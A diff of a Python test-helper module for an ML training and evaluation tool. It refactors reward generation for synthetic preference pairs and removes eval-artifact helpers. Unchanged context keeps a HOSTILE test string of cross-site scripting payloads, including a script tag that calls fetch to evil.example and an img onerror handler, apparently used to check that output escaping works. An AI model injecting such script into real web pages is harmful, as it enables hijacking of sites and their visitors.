@@ -3,20 +3,17 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Iterable, Sequence
+from collections.abc import Sequence
 from typing import Any
 
 import numpy as np
 
 from bnfctl import shards
-from bnfctl.artifact import Artifact, Pinned, Plan, Store
-from bnfctl.config import BuildConfig, EvalConfig, TrainConfig
+from bnfctl.artifact import Artifact, Plan, Store
+from bnfctl.config import BuildConfig, TrainConfig
 from bnfctl.data import pairing
-from bnfctl.evaluation import rows as eval_rows
-from bnfctl.evaluation import shifting
-from bnfctl.tasks.statistics import mean_interval
+from tests.report.evals import BASE
 
-BASE = Pinned("hub-model", "meta-llama/Meta-Llama-3-8B-Instruct@5f0b02c75b57", "b" * 64)
 HOSTILE = (
     "<script>document.title = 'owned'; fetch('https://evil.example/')</script> </script><img src=x "
     "onerror=\"document.title='owned'\"> $x^2$ & &amp; \u2028 naïve 數學 \u202e🎈 <!-- ]]> ' \" `"
@@ -25,9 +22,13 @@ HOSTILE = (
 
 
 def publish_build(
-    store: Store, seed: int = 0, records: int = 200, rewards: bool = True, ratio: float = 1.0
+    store: Store,
+    seed: int = 0,
+    records: int = 200,
+    rewards: bool | Sequence[dict[str, float]] = True,
+    ratio: float = 1.0,
 ) -> Artifact:
-    """Pairs with rewards drawn from two normal distributions."""
+    """Pairs with rewards drawn from two normal distributions, or with none, or with these by side, over and over."""
     source = np.random.default_rng(seed)
     rows = []
     for number in range(records):
@@ -38,7 +39,10 @@ def publish_build(
         for side, shift in (("chosen", 0.6), ("rejected", -0.4)):
             length = int(source.integers(20, 400) + 60 * shift)
             row |= {f"{side}_text": "x" * (4 * length), f"{side}_ids": [1] * max(length, 1), f"{side}_finish": "stop"}
-            row[f"{side}_reward"] = float(source.normal(shift, 0.8)) if rewards else None
+            if isinstance(rewards, bool):
+                row[f"{side}_reward"] = float(source.normal(shift, 0.8)) if rewards else None
+            else:
+                row[f"{side}_reward"] = rewards[number % len(rewards)][side]
         rows.append(row)
     config = BuildConfig(input="score", seed=seed, pairing_ratio=ratio)
     with store.draft(Plan("build", 2, config, {})) as draft:
@@ -72,49 +76,6 @@ def _metrics(way: float, source: np.random.Generator, split: str, loss: str) -> 
     line |= {"logp_chosen": noisy(-0.5), "shift_chosen": noisy(0.06 * way, 0.01), "logp_rejected": noisy(-0.7),
              "shift_rejected": noisy(-0.2 * way, 0.02), "margin": noisy(9 * way, 0.8), "accuracy": min(1.0, 0.5 + 0.2 * way)}  # fmt: skip
     return line | ({"coefficient": noisy(1 - 0.15 * way), "grad_norm": 1.0, "lr": 1e-6} if split == "train" else {})
-
-
-def eval_row(task: str, model: str, item: int, response: str, grade: float | None, **more: Any) -> dict[str, Any]:
-    """A row of an eval artifact."""
-    prompt = [{"role": "user", "content": f"Item {item} of {task}: what is {item} + {item}?"}]
-    return {
-        "task": task, "model": model, "item_id": f"{task}-{item:03}", "prompt": prompt, "response": response,
-        "tokens": len(response.split()), "finish_reason": "stop", "grade": grade, "extra": None, "answers": None, **more,
-    }  # fmt: skip
-
-
-def publish_eval(
-    store: Store,
-    model: Pinned,
-    rows: Sequence[dict[str, Any]],
-    shift_rows: Iterable[dict[str, Any]] = (),
-    seed: int = 0,
-) -> Artifact:
-    """An eval artifact of version 2 with these rows; its figures are those of the rows."""
-    tasks: dict[str, Any] = {}
-    for task in dict.fromkeys(row["task"] for row in rows):
-        mine = [row for row in rows if row["task"] == task]
-        found = mean_interval([row["grade"] for row in mine if row["grade"] is not None])
-        tasks[task] = {"version": "1", "models": {model.ref: {
-            "n": found.n, "mean": found.mean, "low": found.low, "high": found.high, "interval": "normal", "ungraded": 0,
-            "tokens": float(np.mean([row["tokens"] for row in mine])),
-            "characters": float(np.mean([len(row["response"]) for row in mine])),
-        }}}  # fmt: skip
-    summary: dict[str, Any] = {"models": [model.ref], "tasks": tasks}
-    shift_rows = list(shift_rows)
-    with store.draft(
-        Plan("eval", 2, EvalConfig(tasks=tuple(tasks), model=model.ref, seed=seed), {"model": model})
-    ) as draft:
-        draft.open()
-        shards.write_shards(draft.path / "rows", rows, eval_rows.SCHEMA)
-        if shift_rows:
-            from bnfctl.analysis.shifts import SCHEMA
-
-            folder = draft.path / shifting.FOLDER
-            shards.write_shards(folder, shift_rows, SCHEMA)
-            found = {"reference": BASE.ref, "responses": "reference", "models": {model.ref: shifting.figures(folder)}}
-            tasks["shifts"] = {"version": "shifts-1", **found}
-        return draft.publish(summary)
 
 
 def shift_rows(method: str, seed: int, responses: int = 60, shared: bool = True) -> list[dict[str, Any]]:
